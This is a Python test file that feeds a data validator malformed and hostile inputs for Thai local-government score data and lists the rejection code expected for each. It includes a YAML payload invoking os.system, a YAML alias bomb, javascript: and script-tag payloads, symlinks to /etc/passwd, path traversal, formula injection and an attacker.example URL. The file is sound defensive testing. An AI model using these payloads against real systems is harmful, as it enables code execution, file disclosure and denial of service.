                f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n".encode()
                for n in range(9)
            ),
        ),
        "unreadable_settings",
    ),
    "YAML that runs a program": (
        setting("rounding: half_up", "rounding: !!python/object/apply:os.system [touch /tmp/ran]"),
        "unreadable_settings",
    ),
    "YAML with a tag at a text": (
        setting("name_th: ดีเด่น", "name_th: !!python/name:os.system ดีเด่น"),
        "unreadable_settings",
    ),
    "YAML with a tag of its own": (setting("decimals: 2", "decimals: !two 2"), "unreadable_settings"),
    "YAML of brackets": (write(ROUND, b"[" * 90_000), "unreadable_settings"),
    "YAML of braces": (write(ROUND, b"{a: " * 20_000), "unreadable_settings"),
    "YAML of dashes": (write(ROUND, b"- " * 40_000), "unreadable_settings"),
    "YAML that is a list": (write(ROUND, b"- 1\n- 2\n"), "unreadable_settings"),
    "YAML that is a word": (write(ROUND, b"round\n"), "unreadable_settings"),
    "YAML that is nothing": (write(ROUND, b""), "unreadable_settings"),
    "YAML with a key twice": (setting("decimals: 2", "decimals: 2\ndecimals: 2"), "unreadable_settings"),
    "YAML with a path for a key": (
        setting("aggregation: pooled", "aggregation: pooled\npass.rule: overall"),
        "unknown_setting",
    ),
    "YAML with a list for a key": (
        setting("decimals: 2", "? [a, b]\n: 1\ndecimals: 2"),
        "unreadable_settings",
    ),
    "YAML with a merge": (setting("decimals: 2", "<<: {decimals: 2}"), "unknown_setting"),
    "YAML in two parts": (setting("decimals: 2", "decimals: 2\n---\na: 1"), "unreadable_settings"),
    "YAML with a character beyond Unicode": (
        setting("name_th: ดีเด่น", 'name_th: "\\UFFFFFFFF"'),
        "unreadable_settings",
    ),
    "YAML with half a character": (setting("name_th: ดีเด่น", 'name_th: "ดี\\uD800"'), "hidden_character"),
    "YAML with an escape": (setting("name_th: ดีเด่น", 'name_th: "ดี\\u200B"'), "hidden_character"),
    "YAML of version ninety-nine nines": (
        write(ROUND, b"%YAML 1." + b"9" * 5_000 + b"\n---\na: 1\n"),
        "unreadable_settings",
    ),
    "YAML with tabs": (setting("\ndecimals", "\n\tdecimals"), "unreadable_settings"),
    "YAML in UTF-16": (recode(ROUND, "utf-16"), "unreadable_settings"),
    "YAML in cp874": (recode(ROUND, "cp874"), "unreadable_settings"),
    "YAML with NUL": (setting("pooled", "poo\0led"), "unreadable_settings"),
    "YAML of a megabyte": (filler(ROUND, lambda: b"a: 1\n" * 200_000), "unreadable_settings"),
    "YAML of twenty thousand settings": (
        filler(ROUND, lambda: b"".join(b"%x: 1\n" % number for number in range(11_000))),
        "unknown_setting",
    ),
    "YAML with a number of five thousand digits": (
        setting("decimals: 2", f"decimals: {'9' * 5_000}"),
        "too_long",
    ),
    "YAML with a number of three thousand digits": (
        setting("decimals: 2", f"decimals: {'9' * 3_000}"),
        "number_spelling",
    ),
    "YAML with an edition of three thousand digits": (
        setting("edition: P1", f"edition: P{'9' * 3_000}"),
        "wrong_form",
    ),
    "YAML with a weight of nothing": (
        setting("aggregation: pooled", "aggregation: weighted\nweights: {1: 1/0, 2: 1/2}"),
        "wrong_form",
    ),
    "YAML with an infinite mark": (setting("mark: 70", "mark: .inf"), "not_a_number"),
    "YAML with a date that isn't": (setting("2025-10-29", "2025-02-30"), "date_spelling"),
    "YAML with a time for a date": (setting("2025-10-29", "2025-10-29T00:00:00Z"), "date_spelling"),
    "YAML with yes for true": (swap(PUBLICATION, "demonstration: true", "demonstration: yes"), "not_in_list"),
    "YAML with a script in its address": (
        swap(PUBLICATION, "base_url:", "base_url: javascript:alert(1)"),
        "odd_link",
    ),
}

FILES: dict[str, tuple[Spoil, str]] = {
    "scores in UTF-16": (recode(SCORES, "utf-16"), "not_utf8"),
    "a registry in cp874": (recode(LGOS, "cp874"), "not_utf8"),
    "scores of half a letter": (write(SCORES, b"lgo_code,\xe0\xb8"), "not_utf8"),
    "scores with NUL": (swap(SCORES, "05220301,3", "05220301,3\0"), "not_utf8"),
    "scores with semicolons": (swap(SCORES, ",", ";"), "wrong_delimiter"),
    "scores with tabs": (swap(SCORES, ",", "\t"), "wrong_delimiter"),
    "scores of an old Macintosh": (swap(SCORES, "\n", "\r"), "lone_return"),
    "a lone return among lines": (
        swap(SCORES, "05220301,3,0,5,cut\n", "05220301,3,0,5,cut\r"),
        "lone_return",
    ),
    "scores with an open quotation mark": (swap(SCORES, "05220301,3", '05220301,"3'), "broken_quotes"),
    "scores with a quotation mark within": (swap(SCORES, "05220301,3", '05220301,"3"3'), "broken_quotes"),
    "scores of a million columns": (million_columns, "endless_line"),
    "scores of two thousand columns": (
        filler(SCORES, lambda: b"lgo_code" + b",x" * 2_000 + b"\n1\n"),
        "too_many_columns",
    ),
    "scores of one endless line": (filler(SCORES, lambda: b"9" * 9_000_000), "endless_line"),
    "statistics of nine million blank lines": (
        filler(STATISTICS, lambda: b"\n" * 9_000_000),
        "too_many_lines",
    ),
    "statistics of two hundred thousand bad rows": (
        filler(
            STATISTICS,
            lambda: (
                b"code,year,population,area_km2,villages,households,website,source\n"
                + b"x,x,x,x,x,x,x,x\n" * 199_000
            ),
        ),
        "too_many_problems",
    ),
    "statistics of eight columns full of other words": (
        filler(
            STATISTICS,
            lambda: (
                b"code,year,population,area_km2,villages,households,website,source\n"
                + b"".join(b"%x,%x,%x,%x,%x,%x,%x,%x\n" % ((number,) * 8) for number in range(60_000))
            ),
        ),
        "too_many_problems",
    ),
    "scores a thousand columns wide and full": (
        filler(
            SCORES,
            lambda: (
                b"lgo_code,"
                + b",".join(b"X%d" % n for n in range(998))
                + b"\n"
                + (b"ab," * 998 + b"cd\n") * 3_200
            ),
        ),
        "unknown_indicator",
    ),
    "quotation marks by the million": (filler(SCORES, lambda: b'"' * 4_000_001), "endless_line"),
    "a table of eleven megabytes": (filler(STATISTICS, lambda: b"x" * 11_000_000), "too_large"),
    "a table of a terabyte": (lambda data: os.truncate(data / STATISTICS, 2**40), "too_large"),
    "a book of a terabyte": (lambda data: os.truncate(data / BOOK, 2**40), "book_too_large"),
    "settings of a terabyte": (lambda data: os.truncate(data / ROUND, 2**40), "unreadable_settings"),
    "a heading twice": (swap(SCORES, "D1-020", "D1-010"), "duplicate_column"),
    "a heading twice but for a space": (swap(SCORES, "D1-020", "D1-010 "), "duplicate_column"),
    "a heading that can't be seen": (swap(SCORES, "D1-020", "\u200b"), "unknown_indicator"),
    "a heading that is a formula": (swap(SCORES, "D1-020", "=1+1"), "unknown_indicator"),
    "no heading": (swap(SCORES, "lgo_code,D1-010,D1-020,D2-010,D2-020\n", "\n"), "ragged_row"),
    "a code twice, once without its zero": (
        swap(SCORES, "06220302,0,5,1,", "05220301,3,0,5,cut\n5220301,3,0,5,cut"),
        "duplicate_lgo",
    ),
    # what is no file
    "a link out of the folder": (linked(SCORES, "/etc/passwd"), "link_in_data"),
    "a link to endless zeros": (linked(SCORES, "/dev/zero"), "link_in_data"),
    "a link to itself": (linked(SCORES, "22.csv"), "link_in_data"),
    "a link to nowhere": (linked(SCORES, "nowhere.csv"), "link_in_data"),
    "a folder that links to its own folder": (linked("rounds/2568/self/loop", ".."), "link_in_data"),
    "a folder that links out": (linked("media/outside", "/etc"), "link_in_data"),
    "a pipe nobody writes into": (special(os.mkfifo, SCORES), "no_plain_file"),
    "a folder named as a table": (special(Path.mkdir, SCORES), "no_plain_file"),
    "a folder named as a book": (special(Path.mkdir, "ebooks/two.pdf"), "no_plain_file"),
    "folders four hundred deep": (deep, "no_plain_file"),
    # names
    "a table name of two lines": (odd_name(b"22\n.csv"), "unknown_file"),
    "a table name that is no text": (odd_name(b"\xff\xfe.csv"), "unknown_file"),
    "a table name in Thai digits": (odd_name("๒๒.csv".encode()), "unknown_file"),
    "a table name in full width": (odd_name("２２.csv".encode()), "unknown_file"),
    "a table name with an escape": (odd_name(b"\x1b[31m22.csv"), "unknown_file"),
    "a workbook among the scores": (write("rounds/2568/scores/22.xlsx", b"PK\x03\x04"), "unknown_file"),
    "a program among the data": (write("rounds/2568/run.sh", b"#!/bin/sh\n"), "unknown_file"),
    "a book outside its folder": (swap(EBOOKS, ",lpa-2567.pdf,", ",../../etc/passwd.pdf,"), "wrong_form"),
    "a book at an address": (swap(EBOOKS, ",lpa-2567.pdf,", ",http://a.example/lpa.pdf,"), "wrong_form"),
    "a book on a share": (swap(EBOOKS, ",lpa-2567.pdf,", ",\\\\server\\share\\lpa.pdf,"), "wrong_form"),
    "a book that is a page": (write(BOOK, b"<script>alert(1)</script>"), "book_of_another_kind"),
    # numbers in other places
    "steps of three thousand digits": (swap(INDICATORS, "0|1|2.5|5", f"0|1|2.5|{'9' * 3_000}"), "wrong_form"),
    "a step of nothing": (swap(INDICATORS, "0|1|2.5|5", "0||5"), "wrong_form"),
    "a population of nan": (population("nan"), "not_a_number"),
    "a population of infinity": (population("Infinity"), "not_a_number"),
    "a population with an exponent": (population("5e5"), "number_spelling"),
    "a population in full width": (population("５３６４９６"), "not_a_number"),
    "a population of thirteen digits": (population("1" * 13), "number_spelling"),
    "a population below nothing": (population("-1"), "out_of_range"),
    "a population that is a date": (population("1-ม.ค."), "not_a_number"),
    "digits without end, then a letter": (population("1" * 3_999 + "x"), "not_a_number"),
    "a correction of a formula": (swap(CORRECTIONS, "D1-010,3,5", "D1-010,=1+1,5"), "formula_text"),
    "a medium of a script": (
        swap(MEDIA, "https://www.example.go.th/media/1", "javascript:alert(1)"),
        "odd_link",
    ),
}


def _named(
    kind: str, texts: Mapping[str, str], spoiled: Callable[[str], Spoil]
) -> dict[str, tuple[Spoil, str]]:
    return {f"{kind} {text[:40]!a} ({len(text)})": (spoiled(text), rule) for text, rule in texts.items()}


DATA: dict[str, tuple[Spoil, str]] = {
    **FILES,
    **YAML,
    **_named("a score of", NUMBERS, score),
    **_named("a name of", NAMES, lambda text: swap(LGOS, "หาดทดลอง", '"' + text.replace('"', '""') + '"')),
    **_named("a link of", LINKS, lambda text: swap(STATISTICS, "https://www.example.go.th/", text)),
}

CALLS: dict[str, tuple[str, ...]] = {
    "a file that isn't there": ("import", "nowhere.xlsx", "--data", "data", "--round", "2568"),
    "a folder for a file": ("import", "data", "--data", "data", "--round", "2568"),
    "a device for a file": ("import", "/dev/zero", "--data", "data", "--round", "2568"),
    "a pipe for a file": ("import", "pipe", "--data", "data", "--round", "2568"),
    "an address for a file": (
        "import",
        "http://attacker.example/a.xlsx",
        "--data",
        "data",
        "--round",
        "2568",
    ),
    "a file name without end": ("import", "x" * 5_000, "--data", "data", "--round", "2568"),
    "a round that isn't there": ("import", "sound.xlsx", "--data", "data", "--round", "2599"),
    "a folder that isn't there": ("validate", "--data", "nowhere"),
    "a folder that is a file": ("validate", "--data", "sound.xlsx"),
    "a folder name without end": ("validate", "--data", "x" * 5_000),
    "a folder that links to itself": ("validate", "--data", "loop"),
    "a site that isn't ours": ("build", "--data", "data", "--out", "data"),
}
"""Calls that can't be, in a folder that holds a sound ``data/``, ``sound.xlsx``, ``pipe`` and ``loop``."""


def country(folder: Path) -> Path:
    """The tiny country, sound."""
    return write_country(folder)
